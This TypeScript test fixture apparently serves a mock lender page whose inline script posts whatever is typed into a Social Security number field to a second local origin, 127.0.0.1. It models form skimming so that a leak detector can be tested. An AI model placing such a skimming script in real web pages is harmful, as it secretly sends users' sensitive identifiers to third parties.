import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Throwaway } from '../../platform/throwaway.ts';

/** Origin of a lender whose page tells another party, at 127.0.0.1, what is typed. */
export async function startLeakyLender(): Promise<Throwaway<string>> {
  const server = createServer((request, response) => {
    const port = request.socket.localPort;
    response.setHeader('access-control-allow-origin', '*');
    if (request.url !== '/') return response.writeHead(204).end();
    response.writeHead(200, { 'content-type': 'text/html' }).end(`<!doctype html><html lang="en"><title>Lender</title>
      <main><form><label>Social security number <input name="ssn"></label></form></main><script>
      addEventListener('change', ({ target }) => fetch('http://127.0.0.1:${port}/t', { method: 'POST', body: target.value }))
      </script></html>`);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    value: `http://localhost:${(server.address() as AddressInfo).port}`,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}
